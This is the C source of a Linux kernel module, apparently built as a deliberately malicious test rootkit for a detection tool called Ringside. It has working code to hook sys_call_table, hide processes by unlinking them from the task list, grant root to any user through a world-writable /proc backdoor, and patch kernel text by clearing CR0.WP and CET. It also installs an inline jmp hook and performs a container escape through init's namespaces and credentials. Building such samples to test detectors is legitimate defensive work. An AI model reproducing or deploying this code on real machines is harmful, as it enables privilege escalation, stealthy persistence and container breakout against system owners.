// SPDX-License-Identifier: GPL-2.0
/*
 * ringside_test: a DELIBERATELY MALICIOUS kernel module, for Ringside's attack scenarios in the
 * throw-away sample guest only. Never load it on a machine you care about.
 *
 * It does, on command, what rootkits do, so that Ringside's detectors have something real to
 * find: it writes into sys_call_table, unlinks a process from the task list, gives a process
 * uid 0, and rewrites a byte of kernel text. Commands are written to /proc/ringside_test:
 *
 *   hook <nr>          sys_call_table[nr] := a function in this module that calls the original
 *   unhook             puts the original pointer back
 *   hide <pid>         unlinks that process from the task list (init_task.tasks)
 *   unhide             links it back (at the tail), so it can exit normally
 *   root               the writing process gets uid/gid 0 (prepare_creds + commit_creds)
 *   textpoke [symbol]  writes one byte of kernel text with the value it already has
 *                      (default symbol: __x64_sys_getppid)
 *   texthook           an inline hook: __x64_sys_getppid starts with a jmp into this module,
 *                      whose replacement does what getppid does
 *   textunhook         puts the original bytes back
 *   escape             a container escape: the writing process gets init's namespaces
 *                      (init_nsproxy) and credentials (init_cred), as kernel exploits hand them
 *
 * Anyone may write "root" (it is a backdoor); the other commands need CAP_SYS_ADMIN. Reading the
 * file prints the module's state. Unloading undoes hook, hide and texthook.
 *
 * Kernel symbols that are not exported (sys_call_table, tasklist_lock, _stext …) are found through
 * kallsyms_lookup_name, whose address the loader passes from /proc/kallsyms:
 *   insmod ringside_test.ko kallsyms_lookup_name=0x$(awk '$3=="kallsyms_lookup_name"{print $1}' /proc/kallsyms)
 * Without it the module finds the function with a kprobe, which itself patches kernel text for a
 * moment (an extra kernel-text write the scenarios do not want).
 *
 * Read-only memory is written with CR0.WP cleared by a plain `mov` to CR0 (bypassing
 * native_write_cr0, which pins WP), with interrupts off on this CPU.
 *
 * This 6.1 kernel dispatches system calls through the switch in x64_sys_call, not through
 * sys_call_table, so a hooked entry is never called: the write changes no behaviour.
 */
#include <linux/cred.h>
#include <linux/irqflags.h>
#include <linux/kallsyms.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/nsproxy.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <asm/processor-flags.h>
#include <asm/ptrace.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Ringside test rootkit: deliberately malicious, for throw-away guests only");

static unsigned long kallsyms_lookup_name_address;
module_param_named(kallsyms_lookup_name, kallsyms_lookup_name_address, ulong, 0400);
MODULE_PARM_DESC(kallsyms_lookup_name, "address of kallsyms_lookup_name, from /proc/kallsyms");

#define DEFAULT_TEXTPOKE_SYMBOL "__x64_sys_getppid"

typedef unsigned long (*lookup_name_fn)(const char *name);
typedef long (*syscall_fn)(const struct pt_regs *regs);

static lookup_name_fn lookup_name;
static syscall_fn *sys_call_table_address;
static rwlock_t *tasklist_lock_address;
static unsigned long kernel_text_start, kernel_text_end;

static DEFINE_MUTEX(state_lock);
static int hooked_nr = -1;
static syscall_fn original_entry;
static atomic_long_t hooked_calls = ATOMIC_LONG_INIT(0);
static struct task_struct *hidden_task;
static pid_t hidden_pid;
static unsigned long textpoke_address;
static unsigned int textpoke_count;
/* texthook: the patched function and the 8 bytes its start held (one aligned word is rewritten). */
static unsigned long texthook_address;
static unsigned long texthook_original;
static unsigned int escapes;

/* True if addr is the start of a core-kernel symbol ("name+0x0/0x…", not in a module). */
static bool is_kernel_symbol_start(unsigned long addr, char *buffer)
{
	sprint_symbol(buffer, addr);
	return strstr(buffer, "+0x0/") && !strchr(buffer, '[');
}

/* True if addr is exactly the start of the core-kernel symbol name. */
static bool is_symbol_start(unsigned long addr, const char *name)
{
	char buffer[KSYM_SYMBOL_LEN];
	size_t length = strlen(name);

	return is_kernel_symbol_start(addr, buffer) && strncmp(buffer, name, length) == 0 &&
	       buffer[length] == '+';
}

/* A function of the core kernel's text (not a module's, not data). */
static bool is_kernel_function(unsigned long addr, char *buffer)
{
	bool symbol_start = is_kernel_symbol_start(addr, buffer);

	return symbol_start && addr >= kernel_text_start && addr < kernel_text_end;
}

static int find_lookup_name(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error;

	if (kallsyms_lookup_name_address) {
		if (!is_symbol_start(kallsyms_lookup_name_address, "kallsyms_lookup_name")) {
			pr_err("ringside_test: 0x%lx is not kallsyms_lookup_name\n",
			       kallsyms_lookup_name_address);
			return -EINVAL;
		}
		lookup_name = (lookup_name_fn)kallsyms_lookup_name_address;
		return 0;
	}
	error = register_kprobe(&probe);
	if (error < 0)
		return error;
	lookup_name = (lookup_name_fn)probe.addr;
	unregister_kprobe(&probe);
	pr_warn("ringside_test: found kallsyms_lookup_name with a kprobe (a brief kernel-text patch)\n");
	return 0;
}

static inline unsigned long cr0_read(void)
{
	unsigned long value;

	asm volatile("mov %%cr0,%0" : "=r"(value));
	return value;
}

/* Not native_write_cr0: that one puts WP back (CR0 pinning) and warns. */
static inline void cr0_write(unsigned long value)
{
	asm volatile("mov %0,%%cr0" : : "r"(value) : "memory");
}

static inline unsigned long cr4_read(void)
{
	unsigned long value;

	asm volatile("mov %%cr4,%0" : "=r"(value));
	return value;
}

static inline void cr4_write(unsigned long value)
{
	asm volatile("mov %0,%%cr4" : : "r"(value) : "memory");
}

/*
 * Writes len bytes into write-protected kernel memory with CR0.WP cleared. CR4.CET forbids
 * clearing WP, so it goes off too for that moment. Interrupts are off: nothing else runs on this
 * CPU while WP is clear, and the other CPUs keep their own CR0.
 */
static void write_protected(void *destination, const void *source, size_t len)
{
	unsigned long flags, cr0, cr4;
	volatile u8 *to = destination;
	const u8 *from = source;
	size_t i;

	local_irq_save(flags);
	cr4 = cr4_read();
	if (cr4 & X86_CR4_CET)
		cr4_write(cr4 & ~X86_CR4_CET);
	cr0 = cr0_read();
	cr0_write(cr0 & ~X86_CR0_WP);
	if (len == sizeof(unsigned long) && IS_ALIGNED((unsigned long)destination, len)) {
		WRITE_ONCE(*(unsigned long *)destination, *(const unsigned long *)source);
	} else {
		for (i = 0; i < len; i++)
			to[i] = from[i];
	}
	cr0_write(cr0);
	if (cr4 & X86_CR4_CET)
		cr4_write(cr4);
	local_irq_restore(flags);
}

/* What sys_call_table[nr] points to while hooked: it passes the call on unchanged. */
static noinline long ringside_hooked_syscall(const struct pt_regs *regs)
{
	syscall_fn original = READ_ONCE(original_entry);

	atomic_long_inc(&hooked_calls);
	return original ? original(regs) : -ENOSYS;
}

static int hook(int nr)
{
	syscall_fn replacement = ringside_hooked_syscall;
	char buffer[KSYM_SYMBOL_LEN];

	if (!sys_call_table_address)
		return -ENOENT;
	if (nr < 0 || nr >= NR_syscalls)
		return -EINVAL;
	if (hooked_nr >= 0)
		return -EBUSY;
	original_entry = READ_ONCE(sys_call_table_address[nr]);
	if (!is_kernel_function((unsigned long)original_entry, buffer)) {
		pr_err("ringside_test: sys_call_table[%d] is %s, not a kernel function\n", nr, buffer);
		original_entry = NULL;
		return -EINVAL;
	}
	write_protected(&sys_call_table_address[nr], &replacement, sizeof(replacement));
	hooked_nr = nr;
	pr_info("ringside_test: hooked sys_call_table[%d] (%px): %s -> %px\n", nr,
		&sys_call_table_address[nr], buffer, replacement);
	return 0;
}

static int unhook(void)
{
	if (hooked_nr < 0)
		return -ENOENT;
	write_protected(&sys_call_table_address[hooked_nr], &original_entry,
			sizeof(original_entry));
	pr_info("ringside_test: restored sys_call_table[%d]\n", hooked_nr);
	hooked_nr = -1;
	return 0;
}

/*
 * Unlinks the task from the task list the way DKOM rootkits do. After a grace period (no RCU
 * walker can still stand on it) its own links point to itself, so that the unlink exit does
 * later (__unhash_process) is harmless even if the task dies hidden. Only a task reaped within
 * that grace period (milliseconds) would trip list debugging: hide something that will not die
 * right away. It stays in the PID table, so /proc/<pid> (and busybox ps, which reads /proc)
 * still show it; for_each_process does not.
 */
static int hide(pid_t nr)
{
	struct pid *pid;
	struct task_struct *task;
	bool unlinked = false;

	if (!tasklist_lock_address)
		return -ENOENT;
	if (hidden_task)
		return -EBUSY;
	pid = find_get_pid(nr);
	task = get_pid_task(pid, PIDTYPE_PID);
	put_pid(pid);
	if (!task)
		return -ESRCH;
	if (nr <= 1 || task == current || (task->flags & PF_KTHREAD) ||
	    !thread_group_leader(task) || !thread_group_empty(task)) {
		put_task_struct(task);
		return -EINVAL;
	}
	write_lock_irq(tasklist_lock_address);
	if (pid_alive(task) && !task->exit_state) {
		list_del_rcu(&task->tasks);
		unlinked = true;
	}
	write_unlock_irq(tasklist_lock_address);
	if (!unlinked) {
		put_task_struct(task);
		return -ESRCH;
	}
	synchronize_rcu();
	write_lock_irq(tasklist_lock_address);
	INIT_LIST_HEAD(&task->tasks);
	write_unlock_irq(tasklist_lock_address);
	hidden_task = task;
	hidden_pid = nr;
	pr_info("ringside_test: hid pid %d (%s, task %px)\n", nr, task->comm, task);
	return 0;
}

static int unhide(void)
{
	bool relinked = false;

	if (!hidden_task)
		return -ENOENT;
	write_lock_irq(tasklist_lock_address);
	if (pid_alive(hidden_task)) {
		list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
		relinked = true;
	}
	write_unlock_irq(tasklist_lock_address);
	pr_info("ringside_test: pid %d %s\n", hidden_pid,
		relinked ? "back on the task list" : "exited while hidden");
	put_task_struct(hidden_task);
	hidden_task = NULL;
	hidden_pid = 0;
	return 0;
}

static bool on_task_list(const struct task_struct *wanted)
{
	struct task_struct *task;
	bool found = false;

	rcu_read_lock();
	for_each_process(task) {
		if (task == wanted) {
			found = true;
			break;
		}
	}
	rcu_read_unlock();
	return found;
}

/* The classic escalation: new credentials for the caller, every id 0. */
static int give_root(void)
{
	struct cred *credentials = prepare_creds();

	if (!credentials)
		return -ENOMEM;
	credentials->uid = credentials->euid = credentials->suid = credentials->fsuid = GLOBAL_ROOT_UID;
	credentials->gid = credentials->egid = credentials->sgid = credentials->fsgid = GLOBAL_ROOT_GID;
	pr_info("ringside_test: pid %d (%s) gets uid 0\n", current->pid, current->comm);
	return commit_creds(credentials);
}

/* Rewrites the first byte of a core-kernel function with the byte already there. */
static int textpoke(const char *symbol)
{
	char buffer[KSYM_SYMBOL_LEN];
	unsigned long address;
	u8 value;

	if (!lookup_name || !kernel_text_start)
		return -ENOENT;
	address = lookup_name(symbol);
	if (!address || !is_kernel_function(address, buffer)) {
		pr_err("ringside_test: %s (0x%lx) is not a function in kernel text\n", symbol, address);
		return -EINVAL;
	}
	value = READ_ONCE(*(u8 *)address);
	write_protected((void *)address, &value, 1);
	textpoke_address = address;
	textpoke_count++;
	pr_info("ringside_test: rewrote kernel text at %s (%px, %s) with 0x%02x\n", symbol,
		(void *)address, buffer, value);
	return 0;
}

/* What __x64_sys_getppid jumps to while hooked: getppid, done here. */
static noinline long ringside_hooked_getppid(const struct pt_regs *regs)
{
	long ppid;

	rcu_read_lock();
	ppid = task_tgid_vnr(rcu_dereference(current->real_parent));
	rcu_read_unlock();
	return ppid;
}

/*
 * An inline hook: the first 5 bytes of __x64_sys_getppid become `jmp ringside_hooked_getppid`,
 * written as one aligned 8-byte store (the 3 bytes after the jmp keep their value), so no CPU
 * executes a half-written instruction.
 */
static int texthook(void)
{
	char buffer[KSYM_SYMBOL_LEN];
	unsigned long address, word;
	s64 displacement;
	u8 *bytes = (u8 *)&word;

	if (!lookup_name || !kernel_text_start)
		return -ENOENT;
	if (texthook_address)
		return -EBUSY;
	address = lookup_name(DEFAULT_TEXTPOKE_SYMBOL);
	if (!address || !is_kernel_function(address, buffer) || !IS_ALIGNED(address, 8))
		return -EINVAL;
	displacement = (s64)(unsigned long)ringside_hooked_getppid - (s64)(address + 5);
	if (displacement != (s32)displacement)
		return -ERANGE;
	word = READ_ONCE(*(unsigned long *)address);
	texthook_original = word;
	bytes[0] = 0xe9;
	memcpy(bytes + 1, &(s32){ (s32)displacement }, 4);
	write_protected((void *)address, &word, sizeof(word));
	texthook_address = address;
	pr_info("ringside_test: %s (%px) jumps to ringside_hooked_getppid\n", buffer, (void *)address);
	return 0;
}

static int textunhook(void)
{
	if (!texthook_address)
		return -ENOENT;
	write_protected((void *)texthook_address, &texthook_original, sizeof(texthook_original));
	pr_info("ringside_test: restored the text of %ps\n", (void *)texthook_address);
	texthook_address = 0;
	return 0;
}

typedef void (*switch_namespaces_fn)(struct task_struct *task, struct nsproxy *namespaces);

/*
 * The payload of a container-escape exploit: the calling process gets init's namespaces and
 * credentials (switch_task_namespaces(current, &init_nsproxy); commit_creds(&init_cred)).
 */
static int escape(void)
{
	switch_namespaces_fn switch_namespaces;
	struct nsproxy *init_namespaces;
	struct cred *init_credentials;

	if (!lookup_name)
		return -ENOENT;
	switch_namespaces = (switch_namespaces_fn)lookup_name("switch_task_namespaces");
	init_namespaces = (struct nsproxy *)lookup_name("init_nsproxy");
	init_credentials = (struct cred *)lookup_name("init_cred");
	if (!switch_namespaces || !init_namespaces || !init_credentials)
		return -ENOENT;
	get_nsproxy(init_namespaces);
	switch_namespaces(current, init_namespaces);
	escapes++;
	pr_info("ringside_test: pid %d (%s) gets init's namespaces and credentials\n", current->pid,
		current->comm);
	return commit_creds((struct cred *)get_cred(init_credentials));
}

static int run_command(char *line)
{
	char *argument = strim(line);
	char *command = strsep(&argument, " \t");
	int number;

	if (!strcmp(command, "root"))
		return give_root();
	if (!capable(CAP_SYS_ADMIN))
		return -EPERM;
	if (argument)
		argument = skip_spaces(argument);
	if (!strcmp(command, "hook"))
		return argument && !kstrtoint(argument, 0, &number) ? hook(number) : -EINVAL;
	if (!strcmp(command, "unhook"))
		return unhook();
	if (!strcmp(command, "hide"))
		return argument && !kstrtoint(argument, 0, &number) ? hide(number) : -EINVAL;
	if (!strcmp(command, "unhide"))
		return unhide();
	if (!strcmp(command, "textpoke"))
		return textpoke(argument && *argument ? argument : DEFAULT_TEXTPOKE_SYMBOL);
	if (!strcmp(command, "texthook"))
		return texthook();
	if (!strcmp(command, "textunhook"))
		return textunhook();
	if (!strcmp(command, "escape"))
		return escape();
	return -EINVAL;
}

static ssize_t control_write(struct file *file, const char __user *input, size_t count,
			     loff_t *position)
{
	char line[96];
	int error;

	if (count >= sizeof(line))
		return -EINVAL;
	if (copy_from_user(line, input, count))
		return -EFAULT;
	line[count] = '\0';
	mutex_lock(&state_lock);
	error = run_command(line);
	mutex_unlock(&state_lock);
	return error ? error : count;
}

static int control_show(struct seq_file *file, void *unused)
{
	mutex_lock(&state_lock);
	seq_printf(file, "sys_call_table %px\n", sys_call_table_address);
	if (hooked_nr >= 0)
		seq_printf(file, "hook %d entry %ps original %ps calls %ld\n", hooked_nr,
			   (void *)READ_ONCE(sys_call_table_address[hooked_nr]), (void *)original_entry,
			   atomic_long_read(&hooked_calls));
	else
		seq_puts(file, "hook none\n");
	if (hidden_task)
		seq_printf(file, "hidden %d on_task_list %s\n", hidden_pid,
			   on_task_list(hidden_task) ? "yes" : "no");
	else
		seq_puts(file, "hidden none\n");
	seq_printf(file, "textpoke %u last %ps\n", textpoke_count, (void *)textpoke_address);
	if (texthook_address)
		seq_printf(file, "texthook %ps jumps to %ps\n", (void *)texthook_address,
			   (void *)ringside_hooked_getppid);
	else
		seq_puts(file, "texthook none\n");
	seq_printf(file, "escapes %u\n", escapes);
	mutex_unlock(&state_lock);
	return 0;
}

static int control_open(struct inode *inode, struct file *file)
{
	return single_open(file, control_show, NULL);
}

static const struct proc_ops control_ops = {
	.proc_open = control_open,
	.proc_read = seq_read,
	.proc_lseek = seq_lseek,
	.proc_release = single_release,
	.proc_write = control_write,
};

static struct proc_dir_entry *control_file;

static int __init ringside_test_init(void)
{
	int error = find_lookup_name();

	if (error)
		return error;
	sys_call_table_address = (syscall_fn *)lookup_name("sys_call_table");
	tasklist_lock_address = (rwlock_t *)lookup_name("tasklist_lock");
	kernel_text_start = lookup_name("_stext");
	kernel_text_end = lookup_name("_etext");
	if (!sys_call_table_address || !tasklist_lock_address || !kernel_text_start ||
	    !kernel_text_end) {
		pr_err("ringside_test: kernel symbols not found\n");
		return -ENOENT;
	}
	/* Anyone may write (the "root" backdoor); the rest checks CAP_SYS_ADMIN. */
	control_file = proc_create("ringside_test", 0622, NULL, &control_ops);
	if (!control_file)
		return -ENOMEM;
	pr_info("ringside_test: loaded (deliberately malicious test module)\n");
	return 0;
}

static void __exit ringside_test_exit(void)
{
	proc_remove(control_file);
	mutex_lock(&state_lock);
	if (hooked_nr >= 0)
		unhook();
	if (hidden_task)
		unhide();
	if (texthook_address)
		textunhook();
	mutex_unlock(&state_lock);
	pr_info("ringside_test: unloaded\n");
}

module_init(ringside_test_init);
module_exit(ringside_test_exit);
